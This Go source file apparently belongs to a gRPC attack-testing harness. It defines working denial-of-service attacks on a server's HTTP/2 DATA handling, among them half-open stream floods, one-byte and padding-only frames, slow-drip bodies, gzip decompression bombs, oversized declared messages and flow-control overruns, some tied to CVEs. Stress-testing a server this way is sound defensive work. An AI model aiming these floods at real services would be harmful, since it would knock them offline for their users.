// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

const mib = 1 << 20

// window is what may be sent on a stream that nobody reads, for all that is known.
const window = 65535

// dataKinds are attacks on a server with DATA frames and the messages in them.
var dataKinds = []Kind{
	{
		Name: "server/data/one-byte-of-4-mib", Short: true,
		About:  "one byte of a message of 4 MiB, on 5,000 streams",
		Attack: hold(1, true, bodies(5000, orders.Sink, append(wire.AppendPrefix(nil, 0, 4*mib-1), 0))),
	},
	{
		Name:   "server/data/one-byte-grown",
		About:  "the same, when windows have grown from 8 MB of proper messages",
		Attack: hold(1, true, oneByteGrown),
	},
	{
		Name:   "server/data/prefix-only",
		About:  "four of the five bytes in front of a message, on 5,000 streams",
		Attack: hold(1, true, bodies(5000, orders.Sink, make([]byte, 4))),
	},
	{
		Name: "server/data/tiny-unread", Short: true,
		About:  "26 MB of messages of one byte that handlers do not read, on 400 streams",
		Attack: hold(8, true, bodies(50, orders.Deaf, messages([]byte{0}))),
	},
	{
		Name: "server/data/tiny-behind-end", Short: true,
		About:  "windows full of messages of one byte to unary methods, which the second of them ends, on 400 streams",
		Attack: hold(8, true, bodies(50, orders.Echo, messages([]byte{0}))),
	},
	{
		Name:   "server/data/empty-behind-end",
		About:  "the same with empty messages",
		Attack: hold(8, true, bodies(50, orders.Echo, messages(nil))),
	},
	{
		Name:   "server/data/empty-read",
		About:  "6 MB of empty messages that handlers read, on 100 streams",
		Attack: hold(2, true, bodies(50, orders.Sink, messages(nil))),
	},
	{
		Name:   "server/data/empty-unread",
		About:  "26 MB of empty messages that handlers do not read, on 400 streams",
		Attack: hold(8, true, bodies(50, orders.Deaf, messages(nil))),
	},
	{
		Name:   "server/data/tiny-frames-unread",
		About:  "the same, a frame each",
		Attack: hold(8, true, tinyFrames(50, wire.AppendMessage(nil, 0, []byte{0}))),
	},
	{
		Name:   "server/data/split-frames-unread",
		About:  "messages of 100 bytes that handlers do not read, one byte a frame (CVE-2026-84304)",
		Attack: hold(8, true, tinyFrames(50, []byte{0})),
	},
	{
		Name:   "server/data/full-windows",
		About:  "windows full of messages of 4 KB that handlers do not read, on 2,000 streams",
		Attack: hold(4, true, bodies(500, orders.Deaf, repeated(wire.AppendMessage(nil, 0, make([]byte, 4<<10))))),
	},
	{
		Name:   "server/data/half-messages",
		About:  "60 KB of a message of 4 MiB, on 1,000 streams",
		Attack: hold(4, true, bodies(250, orders.Sink, append(wire.AppendPrefix(nil, 0, 4*mib-1), make([]byte, 60<<10)...))),
	},
	{
		Name: "server/data/empty-frames", Short: true,
		About:  "DATA of length 0 (CVE-2019-9518)",
		Attack: onStreams(4, 10, orders.Deaf, frame(wire.Data, 0, 1, nil)),
	},
	{
		Name:   "server/data/one-byte-frames",
		About:  "a message of 4 MiB in frames of one byte (CVE-2026-84304)",
		Attack: flood(4, true, oneByteFrames),
	},
	{
		Name:   "server/data/padding",
		About:  "DATA of 255 bytes of padding and nothing else (RFC 9113, 6.1)",
		Attack: flood(4, true, padded),
	},
	{
		Name:   "server/data/drip",
		About:  "a byte of a message of 4 MiB every 150 ms on 1,000 connections",
		Time:   3 * time.Second,
		Attack: dripBody,
	},
	{
		Name: "server/data/gzip-bomb", Short: true,
		About:  "60 KB that gzip blows up to 60 MB, again and again",
		Attack: flood(4, true, message(gzippedCall, wire.AppendMessage(nil, 1, bomb(60*mib)))),
	},
	{
		Name:   "server/data/gzip-just-fits",
		About:  "4 KB that gzip blows up to the 4 MiB that are allowed, on 100 streams",
		Spate:  2 * 100 * 4 * mib, // the messages, and what they are made from
		Attack: hold(1, true, bodiesWith(100, gzippedCall, wire.AppendMessage(nil, 1, bomb(4*mib-8)))),
	},
	{
		Name:   "server/data/gzip-broken",
		About:  "a gzip stream that ends in the middle",
		Attack: flood(4, true, message(gzippedCall, wire.AppendMessage(nil, 1, bomb(mib)[:500]))),
	},
	{
		Name:   "server/data/gzip-unread",
		About:  "windows full of compressed messages that handlers do not read, on 400 streams",
		Attack: hold(8, true, bodiesWith(50, wire.Request(orders.Deaf, wire.Field{Name: "grpc-encoding", Value: "gzip"}), repeated(wire.AppendMessage(nil, 1, bomb(4*mib-8))))),
	},
	{
		Name:   "server/data/declared-4-gib",
		About:  "messages of 4 GiB, declared",
		Attack: flood(4, true, message(wire.Request(orders.Echo), wire.AppendPrefix(nil, 0, 1<<32-1))),
	},
	{
		Name:   "server/data/bad-flag",
		About:  "messages whose compressed flag is 255",
		Attack: flood(4, true, message(wire.Request(orders.Echo), wire.AppendMessage(nil, 255, []byte{0}))),
	},
	{
		Name:  "server/data/behind-end",
		About: "DATA on streams that are over, as much as the window allows (RFC 9113, 5.1)",
		Attack: flood(4, true, func(c *conn) error {
			id, err := c.Call("/no.Such/Method")
			if err != nil {
				return err
			}
			return c.Data(id, 0, make([]byte, 16<<10))
		}),
	},
	{
		Name:   "server/data/overrun",
		About:  "more DATA than the window of the connection allows (RFC 9113, 5.2.1)",
		Attack: flood(4, true, overrun),
	},
	{
		Name:   "server/data/trailers-bomb",
		About:  "trailers of 1 MB behind the body of a call",
		Attack: flood(2, true, requestTrailers),
	},
}

var gzippedCall = wire.Request(orders.Sink, wire.Field{Name: "grpc-encoding", Value: "gzip"})

// bodies opens n streams of a method and sends the beginning of a body on each.
func bodies(n int, method string, body []byte) script {
	return bodiesWith(n, wire.Request(method), body)
}

func bodiesWith(n int, block, body []byte) script {
	return func(c *conn) error {
		for range n {
			id := c.Stream()
			if err := c.Headers(id, 0, block); err != nil {
				return err
			}
			if err := c.Data(id, 0, body); err != nil {
				return err
			}
		}
		return nil
	}
}

// message is a round of a call with a body of its own, which it does not end.
func message(block, body []byte) script {
	return func(c *conn) error {
		id := c.Stream()
		if err := c.Headers(id, 0, block); err != nil {
			return err
		}
		if err := c.Data(id, 0, body); err != nil {
			return err
		}
		return c.Reset(id, wire.Cancel)
	}
}

// messages is a window full of a message.
func messages(m []byte) []byte { return repeated(wire.AppendMessage(nil, 0, m)) }

func repeated(b []byte) []byte {
	return bytes.Repeat(b, max(1, window/len(b)))
}

// tinyFrames fills the windows of n streams with the same bytes, a frame each.
func tinyFrames(n int, b []byte) script {
	return func(c *conn) error {
		for range n {
			id := c.Stream()
			if err := c.Headers(id, 0, wire.Request(orders.Deaf)); err != nil {
				return err
			}
			if len(b) == 1 { // the prefix of messages of 100 bytes, byte by byte
				b = wire.AppendMessage(nil, 0, make([]byte, 100))
			}
			for i := range 20_000 {
				piece := b
				if len(b) > 50 {
					piece = b[i%len(b):][:1]
				}
				if (i+1)*len(piece) > window {
					break
				}
				if err := c.Data(id, 0, piece); err != nil {
					return err
				}
			}
		}
		return nil
	}
}

// oneByteGrown sends proper messages until windows are large, and then begins many.
func oneByteGrown(c *conn) error {
	for range 200 {
		id := c.Stream()
		if err := c.Headers(id, 0, wire.Request(orders.Echo)); err != nil {
			return err
		}
		if err := c.Data(id, wire.EndStream, wire.AppendMessage(nil, 0, append([]byte{0x0a, 0xac, 0xbb, 0x02}, make([]byte, 40364)...))); err != nil {
			return err
		}
		if err := c.Window(0, 64<<10); err != nil {
			return err
		}
	}
	return bodies(5000, orders.Sink, append(wire.AppendPrefix(nil, 0, 4*mib-1), 0))(c)
}

// onStreams opens streams on n connections and runs round again and again.
func onStreams(n, open_ int, method string, round script) attack {
	return func(a *attacker.Attacker) error {
		return a.Conns(n, func(c *conn) error {
			c.Drain(nil)
			if _, err := open(c, open_, method); err != nil {
				return err
			}
			return repeat(c, round)
		})
	}
}

func oneByteFrames(c *conn) error {
	id := c.Stream()
	if err := c.Headers(id, 0, wire.Request(orders.Sink)); err != nil {
		return err
	}
	if err := c.Data(id, 0, wire.AppendPrefix(nil, 0, 4*mib-1)); err != nil {
		return err
	}
	for range 60_000 {
		if err := c.Data(id, 0, []byte{0}); err != nil {
			return err
		}
	}
	return c.Reset(id, wire.Cancel)
}

func padded(c *conn) error {
	id := c.Stream()
	if err := c.Headers(id, 0, wire.Request(orders.Sink)); err != nil {
		return err
	}
	pad := append([]byte{255}, make([]byte, 255)...)
	for range 200 {
		if err := c.Take(len(pad)); err != nil {
			return err
		}
		if err := c.Frame(wire.Data, wire.Padded, id, pad); err != nil {
			return err
		}
	}
	return c.Reset(id, wire.Cancel)
}

func dripBody(a *attacker.Attacker) error {
	return a.Conns(1000, func(c *conn) error {
		c.Drain(nil)
		id := c.Stream()
		if err := c.Headers(id, 0, wire.Request(orders.Sink)); err != nil {
			return err
		}
		if err := c.Data(id, 0, wire.AppendPrefix(nil, 0, 4*mib-1)); err != nil {
			return err
		}
		return every(c, 150*time.Millisecond, frame(wire.Data, 0, id, []byte{0}))
	})
}

func overrun(c *conn) error {
	id := c.Stream()
	if err := c.Headers(id, 0, wire.Request(orders.Deaf)); err != nil {
		return err
	}
	full := make([]byte, 16<<10)
	for range 100 {
		if err := c.Frame(wire.Data, 0, id, full); err != nil {
			return err
		}
	}
	return c.Flush()
}

func requestTrailers(c *conn) error {
	id := c.Stream()
	if err := c.Headers(id, 0, wire.Request(orders.Slow)); err != nil {
		return err
	}
	return c.Headers(id, wire.EndStream, appendAll(nil, wire.Field{Name: "x", Value: bytesOf(mib)}))
}

// bomb is what gzip makes of a message of n bytes, zeros mostly.
func bomb(n int) []byte {
	if bombs[n] == nil {
		var b bytes.Buffer
		z, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		m := binary.AppendUvarint([]byte{0x0a}, uint64(n-5)) // a field of bytes
		_, _ = z.Write(append(m, make([]byte, n-len(m))...)) // a Buffer takes everything
		_ = z.Close()
		bombs[n] = b.Bytes()
	}
	return bombs[n]
}

// bombs are those that were made; making them takes a while.
var bombs = map[int][]byte{}
